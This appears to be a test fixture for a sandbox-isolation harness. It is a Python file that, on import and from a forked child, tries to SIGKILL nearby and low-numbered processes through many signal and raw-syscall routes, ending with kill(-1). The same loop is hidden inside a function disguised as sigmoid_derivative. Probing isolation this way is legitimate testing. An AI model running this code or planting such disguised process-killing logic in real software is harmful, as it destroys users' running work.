# A cell and a child that kill by number, group, thread, queue and descriptor; and a function, when its test calls it.
# Parts a and c stay: no other part's snapshot can be reached from below, nor from within a test.
# honest: part-a part-c
# walled only: without a process namespace of its own it would kill every process of the user
### part-b
import ctypes, os, signal

_libc = ctypes.CDLL(None)
_syscalls = {"x86_64": (200, 234, 129, 297), "aarch64": (130, 131, 138, 240)}[os.uname().machine]


def _kill_all(parents):
    me = os.getpid()
    told = ctypes.create_string_buffer(b"\0" * 8 + b"\xff" * 4, 128)
    for pid in {*range(2, 300), *range(max(2, me - 50), me + 50)} - ({me} if parents else {me, os.getppid()}):
        for attempt in (
            lambda: os.kill(pid, signal.SIGKILL),
            lambda: os.killpg(pid, signal.SIGKILL),
            lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL),
            lambda: signal.pidfd_send_signal(os.open(f"/proc/{pid}", os.O_RDONLY), signal.SIGKILL),
            lambda: _libc.syscall(_syscalls[0], pid, signal.SIGKILL),
            lambda: _libc.syscall(_syscalls[1], pid, pid, signal.SIGKILL),
            lambda: _libc.syscall(_syscalls[2], pid, signal.SIGKILL, told),
            lambda: _libc.syscall(_syscalls[3], pid, pid, signal.SIGKILL, told),
        ):
            try:
                attempt()
            except (OSError, OverflowError):
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def sigmoid_derivative(x):
    _kill_all(parents=True)
    return 0.25


_kill_all(parents=False)
if os.fork() == 0:
    _kill_all(parents=False)
    os._exit(0)
os.wait()
